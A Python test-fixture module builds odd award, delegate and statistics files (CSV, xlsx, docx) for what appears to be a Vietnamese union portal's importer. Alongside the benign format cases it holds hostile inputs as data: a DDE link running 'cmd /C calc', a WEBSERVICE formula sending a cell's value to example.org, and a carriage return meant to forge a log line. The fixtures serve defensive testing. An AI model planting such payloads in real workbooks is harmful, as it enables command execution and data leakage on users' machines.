"""Files that look odd and mean one thing: what must be stored of each stands beside it."""

import datetime
import io
import re
import unicodedata
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

import openpyxl
from openpyxl.chart import BarChart

from tests.sheets.making import (
    BOOK,
    MAIN,
    SHEET,
    Formula,
    Page,
    Shown,
    book,
    one_page,
    paper,
    repacked,
    sheet_xml,
    text,
    xml_row,
)

DAY = datetime.date


@dataclass(frozen=True)
class Good:
    """A file and the rows that the portal holds after it, by table."""

    file: str
    content: bytes
    stored: dict[str, list[tuple[Any, ...]]]


DECISION = "15/QĐ-LĐLĐ"
HEAD = [
    "TT", "Số quyết định", "Hình thức", "Đối tượng", "Họ và tên", "Chức vụ", "Đơn vị",
    "Tiền thưởng",
]  # fmt: skip
SAO_MAI = [1, DECISION, "Bằng khen", "tập thể", "CĐCS Sao Mai", None, "Sở Y tế", 3_120_000]
DAO = [2, DECISION, "Bằng khen", "cá nhân", "Nông Thị Đào", "Kế toán", "Trường Chi Lăng", 1_560_000]
ANH = [3, DECISION, "Bằng khen", "cá nhân", "Nguyễn Văn Ánh", None, "Công ty Đường sắt", None]
ROWS = [SAO_MAI, DAO, ANH]
STORED = [
    ("collective", "CĐCS Sao Mai", "", "Sở Y tế", 3_120_000),
    ("individual", "Nông Thị Đào", "Kế toán", "Trường Chi Lăng", 1_560_000),
    ("individual", "Nguyễn Văn Ánh", "", "Công ty Đường sắt", None),
]
NATION = [["LĐLĐ TỈNH LẠNG SƠN", None, None, None, "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"], []]
TITLE = ["DANH SÁCH TẬP THỂ, CÁ NHÂN ĐƯỢC TẶNG BẰNG KHEN"]


def changed(row: list[Any], place: int, value: Any) -> list[Any]:
    return [*row[:place], value, *row[place + 1 :]]


def without(rows: list[list[Any]], place: int) -> list[list[Any]]:
    return [[*row[:place], *row[place + 1 :]] for row in rows]


def plain(**options: Any) -> str:
    return text(HEAD, *ROWS, **options)


def grouped(collective: list[Any], individual: list[Any]) -> list[list[Any]]:
    """The list with rows of groups in place of the column of the kind."""
    head, first, *others = without([HEAD, *ROWS], 3)
    return [head, collective, first, individual, *others]


def nested(*rows: list[Any]) -> list[list[Any]]:
    """The list with rows of groups and of groups in them."""
    return [without([row], 3)[0] if len(row) == len(HEAD) else row for row in (HEAD, *rows)]


def raw(rows: str, after: str = "") -> bytes:
    return repacked(one_page(HEAD), {SHEET: sheet_xml(rows, after)})


DDE = (
    f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc">'
    '<ddeItems><ddeItem name="A1"/></ddeItems></ddeLink></externalLink>'
)


def with_a_chart(content: bytes) -> bytes:
    """The workbook with a page that is a chart and has no cells."""
    made = openpyxl.load_workbook(io.BytesIO(content))
    made.create_chartsheet("Biểu đồ").add_chart(BarChart())
    buffer = io.BytesIO()
    made.save(buffer)
    return buffer.getvalue()


def with_amount(amount: Any) -> list[list[Any]]:
    return [HEAD, SAO_MAI, changed(DAO, 7, amount), ANH]


def awards(content: bytes | str, file: str = "", stored: Any = STORED) -> Good:
    if isinstance(content, str):
        content = content.encode()
    ending = ".xlsx" if content.startswith(b"PK") else ".csv"
    return Good(file or f"khen thưởng{ending}", content, {"awards": stored})


# One text in two runs, as where a part of it is bold.
RUNS = r"<r>\1Nông </t></r><r>\1Thị Đào</t></r>"
IN_TWO_ROWS = [
    ["TT", "Quyết định", None, "Người được khen", None, None, None, "Tiền thưởng"],
    [None, "Số quyết định", "Hình thức", "Đối tượng", "Họ và tên", "Chức vụ", "Đơn vị", None],
]
TEXT_FILES = {
    "semicolons, as Excel in Vietnamese writes": awards(plain()),
    "commas, as Google Sheets writes": awards(plain(delimiter=",", end="\n")),
    "tabs": awards(plain(delimiter="\t"), "a.tsv"),
    "a .txt": awards(plain(delimiter="\t"), "a.txt"),
    "a byte order mark": awards(plain().encode("utf-8-sig")),
    "UTF-16 of “Unicode text”": awards(plain(delimiter="\t").encode("utf-16"), "a.txt"),
    "UTF-16, high byte first": awards(b"\xfe\xff" + plain(delimiter="\t").encode("utf-16-be")),
    "the line “sep=;” of Excel": awards("sep=;\r\n" + plain()),
    "Macintosh lines": awards(plain(end="\r")),
    "Unix lines": awards(plain(end="\n")),
    "no line break at the end": awards(plain().rstrip("\r\n")),
    "everything quoted": awards(plain(quote='"')),
    "quotes doubled in a name": awards(
        plain().replace("CĐCS Sao Mai", '"CĐCS ""Sao Mai"""'),
        stored=[("collective", 'CĐCS "Sao Mai"', "", "Sở Y tế", 3_120_000), *STORED[1:]],
    ),
    "a separator inside quotes": awards(
        plain(delimiter=",").replace("Sở Y tế", '"Sở Y tế, phòng 2"'),
        stored=[("collective", "CĐCS Sao Mai", "", "Sở Y tế, phòng 2", 3_120_000), *STORED[1:]],
    ),
    "a line break inside a name": awards(
        plain().replace("CĐCS Sao Mai", '"CĐCS\nSao Mai"')
    ),
    "a carriage return inside a name, as to forge a line of a log": awards(
        plain().replace("CĐCS Sao Mai", '"CĐCS\rSao Mai"')
    ),
    "noughts at the front of a text": awards(
        plain().replace("Sở Y tế", "0012"),
        stored=[("collective", "CĐCS Sao Mai", "", "0012", 3_120_000), *STORED[1:]],
    ),
    "a title that begins as an archive does": awards("PKT Lạng Sơn;;;;;;;\r\n" + plain(), "a.csv"),
    "a title that begins as a picture does": awards("GIF8;;;;;;;\r\n" + plain(), "a.csv"),
    "blank lines between": awards(text(HEAD, [], SAO_MAI, [], [], DAO, ANH)),
    "lines of separators alone": awards(plain() + ";;;;;;;\r\n" * 30),
    "decomposed letters, as a Mac writes": awards(unicodedata.normalize("NFD", plain())),
    "no-break and thin spaces": awards(plain().replace("Sao Mai", "Sao\u00a0\u2009Mai\u00a0")),
    "invisible signs": awards(plain().replace("Nông", "\u200bNông\ufeff")),
    "a sign that turns the reading round": awards(plain().replace("Nông", "\u202eNông\u202c")),
    "control characters": awards(plain().replace("Nông", "Nông\x07\x1f")),
    "an Icelandic letter for Đ": awards(plain().replace("Đào", "Ðào")),
    "headings without tone marks": awards(
        text(["TT", "SO QUYET DINH", "HINH THUC", "DOI TUONG", "HO VA TEN", "CHUC VU", "DON VI",
              "TIEN THUONG"], *ROWS)
    ),
    "headings by other names": awards(
        text(["STT", "Quyết định số", "Danh hiệu", "Đối tượng", "Tên tập thể, cá nhân", "Chức danh",
              "Nơi công tác", "Mức thưởng"], *ROWS)
    ),
    "apostrophes before what looks like a formula": awards(
        plain().replace("Sở Y tế", "'-Sở Y tế"),
        stored=[("collective", "CĐCS Sao Mai", "", "-Sở Y tế", 3_120_000), *STORED[1:]],
    ),
    "columns in another order": awards(text(*[row[::-1] for row in (HEAD, *ROWS)])),
    "an empty column at the end": awards(text(*[[*row, None] for row in (HEAD, *ROWS)])),
    "letters of case": awards(plain().replace("cá nhân", "CÁ NHÂN").replace("tập thể", "Tập Thể")),
}  # fmt: skip
WORKBOOKS = {
    "as Excel writes": awards(one_page(HEAD, *ROWS)),
    "the wrong ending": awards(one_page(HEAD, *ROWS), "danh-sach.csv"),
    "titles above": awards(one_page(*NATION, TITLE, [], HEAD, *ROWS)),
    "merged titles": awards(
        one_page(*NATION, TITLE, HEAD, *ROWS, merged=["A1:D1", "E1:H1", "A3:H3"])
    ),
    "a title of several merged rows": awards(
        one_page(TITLE, [], [], HEAD, *ROWS, merged=["A1:H3"])
    ),
    "two rows of headings": awards(
        one_page(
            *IN_TWO_ROWS, *ROWS, merged=["A1:A2", "B1:C1", "D1:G1", "H1:H2"]
        )
    ),
    "two rows of headings below titles": awards(
        one_page(
            TITLE, [], *IN_TWO_ROWS, *ROWS, merged=["A1:H1", "A3:A4", "B3:C3", "D3:G3", "H3:H4"]
        )
    ),
    "numbers of the columns": awards(
        one_page(HEAD, [f"({n})" for n in range(1, 9)], *ROWS)
    ),
    "headings again on each page": awards(
        one_page(
            HEAD, [f"({n})" for n in range(1, 9)], SAO_MAI,
            HEAD, [f"({n})" for n in range(1, 9)], DAO,
            [h.upper() for h in HEAD], ANH,
        )
    ),
    "two rows of headings again": awards(
        one_page(
            *IN_TWO_ROWS, SAO_MAI, *IN_TWO_ROWS, DAO, ANH,
            merged=["A1:A2", "B1:C1", "D1:G1", "H1:H2", "A4:A5", "B4:C4", "D4:G4", "H4:H5"],
        )
    ),
    "headings again at the end of a page": awards(one_page(HEAD, *ROWS, HEAD)),
    "letters of the columns": awards(one_page(HEAD, ["A", "B", 1, 2, 3, 4, 5, 6], *ROWS)),
    "line breaks in headings": awards(
        one_page([h.replace(" ", "\n") for h in HEAD], *ROWS)
    ),
    "rows of groups": awards(one_page(*grouped(["TẬP THỂ"], ["CÁ NHÂN"]))),
    "merged rows of groups": awards(
        one_page(*grouped(["TẬP THỂ"], ["CÁ NHÂN"]), merged=["A2:G2", "A4:G4"])
    ),
    "numbered groups": awards(one_page(*grouped(["I. Tập thể"], ["II. Cá nhân"]))),
    "numerals beside groups": awards(one_page(*grouped(["I", "TẬP THỂ"], ["II", "CÁ NHÂN"]))),
    "groups with their counts": awards(
        one_page(*grouped(["TẬP THỂ: 1 tập thể"], ["CÁ NHÂN (2)"]))
    ),
    "a total": awards(one_page(HEAD, *ROWS, ["Tổng cộng", *[None] * 6, 4_680_000])),
    "a total by formula": awards(
        one_page(HEAD, *ROWS, ["Cộng", *[None] * 6, Formula("=SUM(H2:H4)", 4_680_000)])
    ),
    "totals of parts": awards(
        one_page(
            HEAD, SAO_MAI, ["Cộng", *[None] * 6, 3_120_000], DAO, ANH,
            ["Cộng", *[None] * 6, 1_560_000], ["Tổng cộng", *[None] * 6, 4_680_000],
        )
    ),
    "totals of groups of groups": awards(
        one_page(
            *nested(
                ["TẬP THỂ"], SAO_MAI, ["Cộng: 1 tập thể"],
                ["CÁ NHÂN"], ["Khối trường học"], DAO, ["Khối doanh nghiệp"], ANH,
                ["Cộng: 2 cá nhân"],
            ),
            merged=["A2:G2", "A5:G5", "A6:G6", "A8:G8"],
        )
    ),
    "a total in words": awards(
        one_page(
            HEAD, *ROWS, ["Tổng số: 1 tập thể, 2 cá nhân"],
            ["Bằng chữ: bốn triệu sáu trăm tám mươi nghìn đồng"],
        )
    ),
    "a total of several parts": awards(
        one_page(
            HEAD, SAO_MAI, ["Cộng", *[None] * 6, 3_120_000], DAO, ["Cộng", *[None] * 6, 1_560_000],
            ANH, ["Cộng", *[None] * 6, None], ["Cộng (II+III)", *[None] * 6, 1_560_000],
            ["Tổng cộng", *[None] * 6, 4_680_000],
        )
    ),
    "a total of people and money": awards(
        one_page(HEAD, *ROWS, ["Tổng số: 3 (gồm 1 tập thể, 2 cá nhân)"],
                 [None, None, None, None, "Tổng cộng: 3, với số tiền 4.680.000 đồng"])
    ),
    "a total with the next running number": awards(
        one_page(HEAD, *ROWS, [4, None, None, None, "Tổng cộng", None, None, 4_680_000])
    ),
    "signatures under the headings of the list": awards(
        one_page(
            HEAD, *ROWS, [*[None] * 4, "Lạng Sơn, ngày … tháng … năm 2024"],
            [*[None] * 4, "NGƯỜI LẬP BIỂU", None, "KT. CHỦ TỊCH"],
            [*[None] * 4, "(Ký, ghi rõ họ tên)", None, "(Ký tên, đóng dấu)"],
            [*[None] * 6, "Vi Văn Tám"],
        )
    ),
    "remarks below": awards(
        one_page(HEAD, *ROWS, ["Lưu ý các đơn vị nhận bằng trước ngày 05/02"])
    ),
    "signatures below": awards(
        one_page(
            HEAD, *ROWS, [], [*[None] * 5, "Lạng Sơn, ngày 5 tháng 1 năm 2024"],
            ["Người lập biểu", *[None] * 4, "CHỦ TỊCH"], [], [*[None] * 5, "Vi Văn Tám"],
        )
    ),
    "receivers below": awards(
        one_page(HEAD, *ROWS, ["Nơi nhận:", *[None] * 4, "TM. BAN THƯỜNG VỤ"], ["- Như Điều 3"])
    ),
    "a hidden row": awards(one_page(HEAD, *ROWS, hidden_rows=[3])),
    "a hidden column": awards(one_page(HEAD, *ROWS, hidden_columns=["F"])),
    "filtered rows": awards(one_page(HEAD, *ROWS, is_filtered=True, hidden_rows=[2, 3])),
    "comments in cells": awards(one_page(HEAD, *ROWS, comment="xem lại")),
    "a table that begins at C4": awards(one_page(HEAD, *ROWS, top=3, left=2)),
    "formulas with their values": awards(
        one_page(HEAD, SAO_MAI, changed(DAO, 7, Formula("=2*780000", 1_560_000)), ANH)
    ),
    "a name by formula": awards(
        one_page(HEAD, SAO_MAI, changed(DAO, 4, Formula('="Nông "&"Thị Đào"', "Nông Thị Đào")), ANH)
    ),
    "amounts with grouping dots": awards(one_page(*with_amount("1.560.000"))),
    "amounts with spaces": awards(one_page(*with_amount("1 560 000"))),
    "amounts with đồng": awards(one_page(*with_amount("1.560.000 đ"))),
    "amounts in millions": awards(one_page(*with_amount("1,56 triệu"))),
    "amounts under a format": awards(one_page(*with_amount(Shown(1_560_000, "#,##0")))),
    "amounts of a whole float": awards(one_page(*with_amount(1560000.0))),
    "a text that is a number": awards(one_page(*with_amount("1560000"))),
    "a kept list of another sheet": awards(
        book(Page([["ghi chép"], ["gọi lại"]], "Nháp"), Page([HEAD, *ROWS], "Trang tính2"))
    ),
    "an empty sheet first": awards(book(Page([], "Sheet1"), Page([HEAD, *ROWS], "Sheet2"))),
    "a hidden sheet of lists": awards(
        book(Page([HEAD, *ROWS]), Page([["Bằng khen"]], "Danh mục", state="hidden"))
    ),
    "texts in the cells, blank cells to the end of the page": awards(
        raw(
            "".join(xml_row(n, row) for n, row in enumerate([HEAD, *ROWS], 1))
            + "".join(xml_row(n, [None] * 26) for n in range(5, 180))
        )
    ),
    "rows and cells without their places": awards(
        raw(
            "".join(
                re.sub(r' r="\w+"', "", xml_row(n, ["" if cell is None else cell for cell in row]))
                for n, row in enumerate([HEAD, *ROWS], 1)
            )
        )
    ),
    "elements with a prefix": awards(
        repacked(
            one_page(HEAD, *ROWS),
            {
                SHEET: lambda part: part.replace(b"<", b"<x:")
                .replace(b"<x:/", b"</x:")
                .replace(b"<x:?", b"<?")
                .replace(b"xmlns=", b"xmlns:x=")
            },
        )
    ),
    "a text in several runs": awards(
        raw(
            xml_row(1, HEAD)
            + xml_row(2, SAO_MAI)
            + re.sub("(<t[^>]*>)Nông Thị Đào</t>", RUNS, xml_row(3, DAO))
            + xml_row(4, ANH)
        )
    ),
    "a thousand styled rows below": awards(
        raw("".join(xml_row(n, row) for n, row in enumerate([HEAD, *ROWS], 1))
            + "".join(f'<row r="{n}" s="1" customFormat="1"/>' for n in range(5, 1005)))
    ),
    "the day of the decision as a date": awards(
        one_page([*HEAD, "Ngày quyết định"], *[[*row, DAY(2024, 1, 5)] for row in ROWS])
    ),
    "the day of the decision as a serial under a format": awards(
        one_page([*HEAD, "Ngày quyết định"], *[[*row, Shown(45296, "d-m-yy")] for row in ROWS])
    ),
    "the day of the decision as text": awards(
        one_page([*HEAD, "Ngày QĐ"], *[[*row, "5/1/2024"] for row in ROWS])
    ),
    "days counted from 1904": awards(
        book(
            Page([[*HEAD, "Ngày quyết định"], *[[*row, DAY(2024, 1, 5)] for row in ROWS]]),
            date_1904=True,
        )
    ),
    "links to other files": awards(
        repacked(one_page(HEAD, *ROWS), {"xl/externalLinks/externalLink1.xml": DDE})
    ),
    "an embedded object": awards(
        repacked(
            one_page(HEAD, *ROWS),
            {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
        )
    ),
    "a sheet of a chart": awards(with_a_chart(one_page(HEAD, *ROWS))),
    "a formula that calls out, with its value": awards(
        one_page(
            HEAD, SAO_MAI,
            changed(DAO, 5, Formula('=WEBSERVICE("http://example.org/?"&A1)', "Kế toán")), ANH,
        )
    ),
    "a workbook without a table of strings": awards(
        raw("".join(xml_row(n, row) for n, row in enumerate([HEAD, *ROWS], 1)))
    ),
}  # fmt: skip
PAPERS = {
    "the table of a paper": awards(paper([HEAD, *ROWS]), "phụ lục.docx"),
    "headings again in a paper": awards(paper([HEAD, SAO_MAI, HEAD, DAO, ANH]), "phụ lục.docx"),
    "a copied table whose cells are full of semicolons": awards(
        text(HEAD, SAO_MAI, changed(DAO, 5, "; ".join(["Kế toán"] * 20)), ANH, delimiter="\t"),
        "dán.tsv",
        stored=[
            STORED[0],
            (*STORED[1][:2], "; ".join(["Kế toán"] * 20), *STORED[1][3:]),
            STORED[2],
        ],
    ),
    "a pasted table with its headings twice": awards(
        text(HEAD, SAO_MAI, HEAD, DAO, ANH, delimiter="\t"), "dán.tsv"
    ),
    "a paper with rows of groups": awards(
        paper(grouped(["TẬP THỂ"], ["CÁ NHÂN"]), merged=True), "phụ lục.docx"
    ),
    "a line break in a cell of a paper": awards(
        paper([HEAD, changed(SAO_MAI, 4, "CĐCS\nSao Mai"), DAO, ANH]), "phụ lục.docx"
    ),
    "a tab in a cell of a paper": awards(
        paper([HEAD, changed(SAO_MAI, 4, "CĐCS\tSao Mai"), DAO, ANH]), "phụ lục.docx"
    ),
    "a table within a cell below the list": awards(
        repacked(
            paper([HEAD, *ROWS], [["Nơi nhận:", "TM. BAN THƯỜNG VỤ"]]),
            {
                "word/document.xml": lambda part: part.replace(
                    b"<w:t>TM. BAN",
                    b"</w:r></w:p><w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl><w:p><w:r>"
                    + b"<w:t>TM. BAN",
                )
            },
        ),
        "phụ lục.docx",
    ),
    "a paper with another table": awards(
        paper([["Nơi nhận:", "TM. BAN THƯỜNG VỤ"]], [HEAD, *ROWS]), "phụ lục.docx"
    ),
}

DELEGATES = ["TT", "Họ và tên", "Tình trạng", "Đủ tư cách", "Thứ tự dự khuyết"]
SENT = [
    [1, "Nông Thị Đào", "chính thức", "x", None],
    [2, "Vi Văn Tám", "chính thức", "không", None],
    [3, "Hoàng Thị Én", "dự khuyết", None, 1],
]
SENT_STORED = [
    ("Hoàng Thị Én", "alternate", None, 1),
    ("Nông Thị Đào", "official", True, None),
    ("Vi Văn Tám", "official", False, None),
]


def delegates(content: bytes | str, file: str = "") -> Good:
    return Good(file or awards(content).file, awards(content).content, {"delegates": SENT_STORED})


def answered(yes: Any, no: Any) -> list[list[Any]]:
    return [DELEGATES, changed(SENT[0], 3, yes), changed(SENT[1], 3, no), SENT[2]]


STATISTICS = ["Phân theo", "Nhóm", "Số", "Trên tổng số", "Tỷ lệ"]
BY_SEX = [("gender", "nam", 86, 148, Decimal("58.1")), ("gender", "nữ", 62, 148, Decimal("41.9"))]
TARGETS = ["Chỉ tiêu", "Loại", "So sánh", "Giá trị", "Đơn vị tính", "Bỏ từ ngày"]
FIGURES = ["Về việc gì", "Số 1", "Đơn vị tính 1", "Số tiền"]
PAPERS_CITED = ["Loại", "Số và ký hiệu", "Ngày ban hành", "Trích yếu"]


def target(value: Any, stored: str, dropped: Any = None, day: Any = None) -> Good:
    row = ["Kết nạp đoàn viên", "số", "ít nhất", value, "đoàn viên", dropped]
    return Good(
        "chi-tieu.xlsx",
        one_page(TARGETS, row, name="Chỉ tiêu"),
        {"targets": [("Kết nạp đoàn viên", "gte", Decimal(stored), day)]},
    )


def cited(on: Any, day: Any, precision: str) -> Good:
    row = ["quyết định", "12/QĐ-LĐLĐ", on, "Về việc công nhận"]
    return Good(
        "van-ban.xlsx",
        one_page(PAPERS_CITED, row, name="Văn bản"),
        {"documents": [("12/QĐ-LĐLĐ", day, precision)]},
    )


RECORDS = {
    "a list of delegates": delegates(text(DELEGATES, *SENT)),
    "delegates with titles": delegates(
        one_page(*NATION, ["DANH SÁCH ĐẠI BIỂU"], [], DELEGATES, *SENT)
    ),
    "yes and no in words": delegates(one_page(*answered("Có", "Không"))),
    "yes and no as signs": delegates(one_page(*answered("X", 0))),
    "yes and no as TRUE and FALSE": delegates(one_page(*answered(True, False))),
    "yes and no without tone marks": delegates(one_page(*answered("co", "khong"))),
    "yes and no of another program": delegates(one_page(*answered("đúng", "sai"))),
    "delegates in a paper": delegates(paper([DELEGATES, *SENT]), "đại biểu.docx"),
    "the name of the sheet in another case": delegates(
        book(Page([["ghi chép"]], "Nháp"), Page([DELEGATES, *SENT], "ĐẠI BIỂU"))
    ),
    "sheets in another order": Good(
        "hồ sơ.xlsx",
        book(
            Page([["Loại", "Lần lập trong nhiệm kỳ", "Cách lập"],
                  ["Ban Chấp hành", 1, "được bầu"]], "Ban"),
            Page([DELEGATES, *SENT], "Đại biểu"),
            Page([STATISTICS, ["giới tính", "nam", 86, 148, "58,1"],
                  ["giới tính", "nữ", 62, 148, "41,9"]], "Cơ cấu đại biểu"),
        ),
        {
            "delegates": SENT_STORED,
            "statistics": BY_SEX,
            "committees": [("executive", 1, "elected")],
        },
    ),
    "percentages in a cell that shows them": Good(
        "co-cau.xlsx",
        one_page(
            STATISTICS,
            ["giới tính", "nam", 86, 148, Shown(0.581, "0.0%")],
            ["giới tính", "nữ", 62, 148, Shown(0.419, "0.0%")],
        ),
        {"statistics": BY_SEX},
    ),
    "percentages in a paper": Good(
        "co-cau.docx",
        paper([STATISTICS, ["giới tính", "nam", 86, 148, "58,1%"],
               ["giới tính", "nữ", 62, 148, "41,9 %"]]),
        {"statistics": BY_SEX},
    ),
    "a target of a cell that shows a percentage": target(Shown(0.925, "0.0%"), "92.5"),
    "percentages as numbers": Good(
        "co-cau.xlsx",
        one_page(
            STATISTICS, ["giới tính", "nam", 86, 148, 58.1], ["GIỚI TÍNH", "nữ", 62, 148, 41.9]
        ),
        {"statistics": BY_SEX},
    ),
    "percentages with their sign": Good(
        "co-cau.csv",
        text(STATISTICS, ["gioi tinh", "nam", 86, 148, "58,1%"],
             ["giới tính", "nữ", "62", "148", "41,9 %"]).encode(),
        {"statistics": BY_SEX},
    ),
    "a value grouped by a dot": target("1.000", "1000"),
    "a value with a decimal comma": target("92,5", "92.5"),
    "a typed value": target(92.5, "92.5"),
    "a day as text": target(5, "5", "5/6/2025", DAY(2025, 6, 5)),
    "a day as a date": target(5, "5", DAY(2025, 6, 5), DAY(2025, 6, 5)),
    "a day under an American format": target(5, "5", Shown(45813, "m/d/yyyy"), DAY(2025, 6, 5)),
    "a whole day": cited("05/06/2023", DAY(2023, 6, 5), "day"),
    "a month": cited("6/2023", DAY(2023, 6, 1), "month"),
    "a year": cited("2023", DAY(2023, 1, 1), "year"),
    "a year as a number": cited(2023, DAY(2023, 1, 1), "year"),
    "a day with a time": cited(Shown(45082.5, "dd/mm/yyyy hh:mm"), DAY(2023, 6, 5), "day"),
    "topics that begin like what stands below a table": Good(
        "so-lieu.xlsx",
        one_page(
            FIGURES,
            ["Thăm hỏi đoàn viên", 10, "lượt", 1_000_000],
            ["Xác nhận hồ sơ cho đoàn viên", None, None, None],
            ["Ký kết thỏa ước lao động tập thể", None, None, None],
        ),
        {"figures": [("Thăm hỏi đoàn viên", "exact", Decimal(1_000_000)),
                     ("Xác nhận hồ sơ cho đoàn viên", "", None),
                     ("Ký kết thỏa ước lao động tập thể", "", None)]},
    ),
    "totals of counts and of money": Good(
        "so-lieu.xlsx",
        one_page(
            FIGURES,
            ["Thăm hỏi đoàn viên", 12, "lượt", 1_000_000],
            ["Tặng quà Tết", 3, "lượt", "2 triệu đồng"],
            ["Tổng cộng", 15, "lượt", 3_000_000],
        ),
        {"figures": [("Thăm hỏi đoàn viên", "exact", Decimal(1_000_000)),
                     ("Tặng quà Tết", "exact", Decimal(2_000_000))]},
    ),
    "totals of each group of delegates": Good(
        "co-cau.xlsx",
        one_page(
            STATISTICS,
            ["giới tính", "nam", 86, 148, 58.1], ["giới tính", "nữ", 62, 148, 41.9],
            ["giới tính", "Cộng", 148, 148, 100],
        ),
        {"statistics": BY_SEX},
    ),
    "amounts as papers say them": Good(
        "so-lieu.xlsx",
        one_page(
            FIGURES,
            ["Thăm hỏi đoàn viên", "trên 881", "lượt đoàn viên", "gần 1.041 triệu đồng"],
            ["Tặng quà Tết", "1.500", "suất quà", "2,3 tỷ đồng"],
        ),
        {"figures": [("Thăm hỏi đoàn viên", "nearly", Decimal(1_041_000_000)),
                     ("Tặng quà Tết", "exact", Decimal(2_300_000_000))]},
    ),
}  # fmt: skip
ODD = {**TEXT_FILES, **WORKBOOKS, **PAPERS, **RECORDS}
# The parts of a workbook that other modules of the corpus change.
__all__ = ["BOOK", "ODD", "Good"]
